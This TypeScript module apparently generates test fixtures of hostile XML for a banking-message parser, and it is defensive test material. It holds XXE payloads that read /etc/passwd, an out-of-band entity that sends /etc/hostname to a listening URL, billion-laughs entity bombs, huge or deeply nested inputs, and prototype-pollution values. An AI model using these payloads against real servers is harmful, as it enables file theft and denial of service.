/**
 * XML that a server must refuse: document types and their contents, other encodings, endless elements in every direction, broken syntax,
 * fields with another meaning. Generated on demand, because some are as large as a file may be.
 */
import { currencies } from '@calmly/domain';

export interface HostileXml {
  readonly name: string;
  make(): Buffer;
}

const urn = 'urn:iso:std:iso:20022:tech:xsd';
const megabyte = 1_000_000;

/** Three messages around a fragment, at the place of an entry, a balance or a status. */
const frames: Readonly<Record<string, (inside: string) => string>> = {
  'camt.053.001.02': (inside) =>
    `<Document xmlns="${urn}:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>1</MsgId></GrpHdr><Stmt><Id>1</Id>${inside}</Stmt></BkToCstmrStmt></Document>`,
  'camt.054.001.08': (inside) =>
    `<Document xmlns="${urn}:camt.054.001.08"><BkToCstmrDbtCdtNtfctn><Ntfctn><Id>1</Id>${inside}</Ntfctn></BkToCstmrDbtCdtNtfctn></Document>`,
  'pain.002.001.11': (inside) =>
    `<Document xmlns="${urn}:pain.002.001.11"><CstmrPmtStsRpt>${inside}</CstmrPmtStsRpt></Document>`,
};

/** The same for a client's own message, at the place of a transaction. */
export const clientFrames: typeof frames = {
  'pain.001.001.09': (inside) =>
    `<Document xmlns="${urn}:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr><MsgId>1</MsgId><NbOfTxs>1</NbOfTxs></GrpHdr><PmtInf><PmtInfId>1</PmtInfId><PmtMtd>TRF</PmtMtd>${inside}</PmtInf></CstmrCdtTrfInitn></Document>`,
  'pain.001.001.03, in a transaction': (inside) =>
    `<Document xmlns="${urn}:pain.001.001.03"><CstmrCdtTrfInitn><GrpHdr><MsgId>1</MsgId><NbOfTxs>9</NbOfTxs></GrpHdr><PmtInf><PmtInfId>1</PmtInfId><PmtMtd>TRF</PmtMtd><CdtTrfTxInf>${inside}</CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>`,
};

const entry = (more: Readonly<Record<string, string>> = {}): string => {
  const fields = {
    Amt: '<Amt Ccy="EUR">1.00</Amt>',
    CdtDbtInd: '<CdtDbtInd>CRDT</CdtDbtInd>',
    Sts: '<Sts>BOOK</Sts>',
    BookgDt: '<BookgDt><Dt>2026-11-21</Dt></BookgDt>',
    AcctSvcrRef: '<AcctSvcrRef>R-1</AcctSvcrRef>',
    NtryDtls: '',
    ...more,
  };
  return `<Ntry>${Object.values(fields).join('')}</Ntry>`;
};

/** Entities that grow tenfold at each level. */
const laughs = (levels: number): string => {
  const entities = Array.from(
    { length: levels },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  );
  return `<!DOCTYPE a [<!ENTITY l0 "lol">${entities.join('')}]>`;
};

/** Content of a document type, before the message; `{url}` is a listening server. */
const doctypes: Readonly<Record<string, (url: string) => string>> = {
  plain: () => '<!DOCTYPE Document>',
  'external, http': (url) => `<!DOCTYPE Document SYSTEM "${url}/external.dtd">`,
  'external, public': (url) => `<!DOCTYPE Document PUBLIC "-//X//Y//EN" "${url}/public.dtd">`,
  'external, file': () => '<!DOCTYPE Document SYSTEM "file:///etc/passwd">',
  'entity of a file': () => '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  'entity of an address': (url) => `<!DOCTYPE a [<!ENTITY x SYSTEM "${url}/entity">]>`,
  'parameter entity': (url) => `<!DOCTYPE a [<!ENTITY % x SYSTEM "${url}/parameter"> %x;]>`,
  'parameter entity that sends': (url) =>
    `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${url}/?%f;'>">%e;%s;]>`,
  'default attribute': () => '<!DOCTYPE a [<!ATTLIST Amt Ccy CDATA "USD">]>',
  notation: (url) => `<!DOCTYPE a [<!NOTATION n SYSTEM "${url}/notation">]>`,
  'three levels of entities': () => laughs(3),
  'six levels of entities': () => laughs(6),
  'ten levels of entities': () => laughs(10),
  'one large entity': () => `<!DOCTYPE a [<!ENTITY x "${'A'.repeat(100_000)}">]>`,
  'an endless one': () => `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(300_000)}`,
  'after a comment': () => '<!-- a --><!DOCTYPE a>',
  'after a blank': () => '\n\n \t<!DOCTYPE a [<!ENTITY x "y">]>',
  'an entity that names itself': () => '<!DOCTYPE a [<!ENTITY x "&x;">]>',
};

const uses = ['', '&x;', '&l3;&l6;&l10;'.repeat(10)];

/** Repetitions as large as a file may be. */
const swollen: Readonly<Record<string, () => string>> = {
  'one text': () => `<AddtlStmtInf>${'A'.repeat(9 * megabyte)}</AddtlStmtInf>`,
  'one text in two-byte letters': () => `<AddtlStmtInf>${'Ж'.repeat(4 * megabyte)}</AddtlStmtInf>`,
  'one text of references': () => `<AddtlStmtInf>${'&amp;'.repeat(1_900_000)}</AddtlStmtInf>`,
  'one text of numeric references': () => `<AddtlStmtInf>${'&#x41;'.repeat(1_600_000)}</AddtlStmtInf>`,
  'one CDATA': () => `<AddtlStmtInf><![CDATA[${'A'.repeat(9 * megabyte)}]]></AddtlStmtInf>`,
  'many CDATA': () => `<AddtlStmtInf>${'<![CDATA[AAAAAAAA]]>'.repeat(450_000)}</AddtlStmtInf>`,
  'one comment': () => `<!--${'A'.repeat(9 * megabyte)}-->`,
  'one name': () => `<${'A'.repeat(9 * megabyte)}/>`,
  'one attribute’s value': () => `<A b="${'A'.repeat(9 * megabyte)}"/>`,
  'one attribute’s name': () => `<A ${'b'.repeat(9 * megabyte)}="1"/>`,
  'many attributes': () => `<A ${Array.from({ length: 100_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`,
  'attributes over the limit': () => `<A ${Array.from({ length: 65 }, (_, n) => `a${n}="1"`).join(' ')}/>`,
  'many namespaces': () =>
    `<A ${Array.from({ length: 100_000 }, (_, n) => `xmlns:a${n}="urn:${n}"`).join(' ')}/>`,
  'the same attribute': () => `<A ${'a="1" '.repeat(1_000)}/>`,
  'one tag without an end': () => `<A ${' '.repeat(9 * megabyte)}`,
  'one comment without an end': () => `<!--${'-A'.repeat(4 * megabyte)}`,
  'many empty elements': () => '<A/>'.repeat(2_400_000),
  'many elements': () => '<A>b</A>'.repeat(1_100_000),
  'many elements of another namespace': () => `<o xmlns="urn:other">${'<A/>'.repeat(2_400_000)}</o>`,
  'many elements with attributes': () => '<A a="1" b="2"/>'.repeat(550_000),
  'deep by one': () => `${'<A>'.repeat(40)}${'</A>'.repeat(40)}`,
  'very deep': () => `${'<A>'.repeat(1_200_000)}${'</A>'.repeat(1_200_000)}`,
  'very deep, another namespace': () =>
    `<o xmlns="urn:other">${'<A>'.repeat(1_200_000)}${'</A>'.repeat(1_200_000)}</o>`,
  'deep without an end': () => '<A>'.repeat(3_000_000),
  'many balances': () => '<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp></Bal>'.repeat(160_000),
  'many entries': () => entry().repeat(52_000),
  'many transactions of an entry': () =>
    entry({
      NtryDtls: `<NtryDtls>${'<TxDtls><Amt Ccy="EUR">0.01</Amt></TxDtls>'.repeat(200_000)}</NtryDtls>`,
    }),
  'many statuses': () => '<OrgnlPmtInfAndSts><A/><A/><A/></OrgnlPmtInfAndSts>'.repeat(190_000),
  'larger than a file may be': () => `<!-- a -->${'<A/>\n'.repeat(2_100_000)}`,
  'blanks alone': () => `${' '.repeat(9.5 * megabyte)}<`,
  'processing instructions': () => '<?a b?>'.repeat(100_000),
};

const broken: Readonly<Record<string, string>> = {
  'not closed': '<A>',
  'closed by another': '<A></B>',
  'crossed over': '<A><B></A></B>',
  'an unknown entity': '<A>&unknown;</A>',
  'an entity of HTML': '<A>&nbsp;</A>',
  'a character of zero': '<A>&#0;</A>',
  'a character that is none': '<A>&#xFFFF;</A>',
  'a half of a pair': '<A>&#xD800;</A>',
  'a control character': '<A>\u0001</A>',
  'two hyphens in a comment': '<!-- a -- b -->',
  'the end of CDATA': '<A>]]></A>',
  'an attribute without quotes': '<A b=1/>',
  'an attribute without a value': '<A b/>',
  'a less-than in an attribute': '<A b="<"/>',
  'a prefix that is not bound': '<x:A/>',
  'a prefix bound to nothing': '<A xmlns:x=""/>',
  'xml bound anew': '<A xmlns:xml="urn:other"/>',
  'a stylesheet': '<?xml-stylesheet href="http://127.0.0.1/x.xsl"?>',
  'text beside elements': '<A>text<B/></A>',
  'a declaration in the middle': '<?xml version="1.0"?>',
};

const fieldsOf: Readonly<Record<string, readonly string[]>> = {
  Amt: [
    '<Amt Ccy="EUR">-1.00</Amt>',
    '<Amt Ccy="EUR">1e3</Amt>',
    '<Amt Ccy="EUR">1,00</Amt>',
    '<Amt Ccy="EUR">0x10</Amt>',
    '<Amt Ccy="EUR">NaN</Amt>',
    '<Amt Ccy="EUR">Infinity</Amt>',
    '<Amt Ccy="EUR">1.005</Amt>',
    '<Amt Ccy="EUR">٣</Amt>',
    '<Amt Ccy="EUR">1 000.00</Amt>',
    `<Amt Ccy="EUR">${'9'.repeat(400)}</Amt>`,
    `<Amt Ccy="EUR">${'9'.repeat(19)}</Amt>`,
    '<Amt Ccy="EUR"></Amt>',
    '<Amt Ccy="EUR"><b>1</b></Amt>',
    '<Amt>1.00</Amt>',
    '<Amt Ccy="">1.00</Amt>',
    '<Amt Ccy="__proto__">1.00</Amt>',
    '<Amt Ccy="constructor">1.00</Amt>',
    '<Amt Ccy="eur">1.00</Amt>',
    '<Amt ccy="EUR">1.00</Amt>',
    '<Amt x:Ccy="EUR" xmlns:x="urn:x">1.00</Amt>',
    ...Object.keys(currencies)
      .slice(0, 3)
      .map((code) => `<Amt Ccy="${code}X">1.00</Amt>`),
    '',
  ],
  CdtDbtInd: ['', '<CdtDbtInd>crdt</CdtDbtInd>', '<CdtDbtInd>CRDT DBIT</CdtDbtInd>', '<CdtDbtInd/>'],
  Sts: ['', '<Sts>BOOKED</Sts>', '<Sts><Prtry>BOOK</Prtry></Sts>', '<Sts><Cd>book</Cd></Sts>'],
  BookgDt: [
    '<BookgDt><Dt>2026-02-30</Dt></BookgDt>',
    '<BookgDt><Dt>21.11.2026</Dt></BookgDt>',
    '<BookgDt><Dt>2026-11-21T00:00:00</Dt></BookgDt>',
    '<BookgDt><DtTm>2026-11-21T99:00:00</DtTm></BookgDt>',
    '<BookgDt><DtTm>yesterday</DtTm></BookgDt>',
    `<BookgDt><Dt>${'2'.repeat(9_000)}</Dt></BookgDt>`,
  ],
  NtryDtls: [
    '<NtryDtls><TxDtls><CdtDbtInd>BOTH</CdtDbtInd></TxDtls></NtryDtls>',
    `<NtryDtls>${'<TxDtls><Amt Ccy="EUR">0.40</Amt></TxDtls>'.repeat(2)}</NtryDtls>`,
    `<NtryDtls><TxDtls><Amt Ccy="EUR">0.50</Amt></TxDtls><TxDtls/></NtryDtls>`,
  ],
};

/** The same text in another encoding, with and without a byte order mark. */
const encoded = (text: string): ReadonlyArray<readonly [string, () => Buffer]> => {
  const little = () => Buffer.from(text, 'utf16le');
  return [
    ['UTF-16LE', little],
    ['UTF-16LE with a mark', () => Buffer.concat([Buffer.from([0xff, 0xfe]), little()])],
    ['UTF-16BE', () => little().swap16()],
    ['UTF-16BE with a mark', () => Buffer.concat([Buffer.from([0xfe, 0xff]), little().swap16()])],
    ['UTF-32', () => Buffer.from([...text].flatMap((each) => [0, 0, 0, each.charCodeAt(0) & 255]))],
    ...['UTF-7', 'UTF-16', 'ISO-8859-1', 'windows-1252', 'IBM037', 'x-user-defined'].map(
      (encoding) =>
        [
          `declared as ${encoding}`,
          () => Buffer.from(`<?xml version="1.0" encoding="${encoding}"?>${text}`),
        ] as const,
    ),
    ['UTF-7 in disguise', () => Buffer.from(text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'))],
    ['bytes that are no UTF-8', () => Buffer.concat([Buffer.from(text), Buffer.from([0xc3, 0x28])])],
    [
      'an overlong letter',
      () => Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc0, 0xbc]), Buffer.from(text)]),
    ],
    [
      'a lone surrogate',
      () => Buffer.concat([Buffer.from('<a>'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(text)]),
    ],
    ['zeros between', () => Buffer.from(`<\0${text.slice(1)}`)],
  ];
};

/** All of them; `url` is a server that notices readers which follow addresses. */
export function hostileXml(url: string, around = frames): HostileXml[] {
  const whole = Object.entries(around);
  const named = (name: string, text: () => string): HostileXml => ({
    name,
    make: () => Buffer.from(text()),
  });
  return [
    ...whole.flatMap(([message, frame]) =>
      Object.entries(doctypes).flatMap(([what, prologue]) =>
        uses.map((use) =>
          named(
            `${message}: document type, ${what}${use && ', used'}`,
            () => `${prologue(url)}${frame(`<A>${use}</A>`)}`,
          ),
        ),
      ),
    ),
    ...whole.flatMap(([message, frame]) =>
      Object.entries(swollen).map(([what, inside]) => named(`${message}: ${what}`, () => frame(inside()))),
    ),
    ...whole.flatMap(([message, frame]) =>
      Object.entries(broken).map(([what, inside]) => named(`${message}: ${what}`, () => frame(inside))),
    ),
    ...whole
      .slice(0, 2)
      .flatMap(([message, frame]) =>
        Object.entries(fieldsOf).flatMap(([field, values]) =>
          values.map((value, place) =>
            named(`${message}: ${field} ${place + 1}`, () => frame(entry({ [field]: value }))),
          ),
        ),
      ),
    ...[
      frames['camt.053.001.02']?.(entry()) ?? '',
      `${doctypes['entity of an address']?.(url)}<a>&x;</a>`,
    ].flatMap((text) =>
      encoded(text).map(([name, make]): HostileXml => ({ name: `${name}: ${text.slice(0, 9)}`, make })),
    ),
    ...['', ' ', '\ufeff', 'text', '{}', '<', '<a/><a/>', '<Document/>', '<Document xmlns="urn:x"/>'].map(
      (text) => named(`instead of a message: ${JSON.stringify(text)}`, () => text),
    ),
    ...[
      'camt.053.001.01',
      'camt.053.001.14',
      'camt.060.001.05',
      'pain.001.001.09',
      'pain.002.001.02',
      '__proto__',
    ].map((message) => named(`not read: ${message}`, () => `<Document xmlns="${urn}:${message}"/>`)),
  ];
}

/** One file of each kind, whichever message it is in and however often it is used, from each message in turn. */
export function oneOfEachKind(files: readonly HostileXml[]): HostileXml[] {
  const kindOf = ({ name }: HostileXml) =>
    name
      .split(': ')
      .slice(-1)
      .join()
      .replace(/(, used| \d+)$/, '');
  return [...Map.groupBy(files, kindOf).values()].flatMap((same, place) => same[place % same.length] ?? []);
}
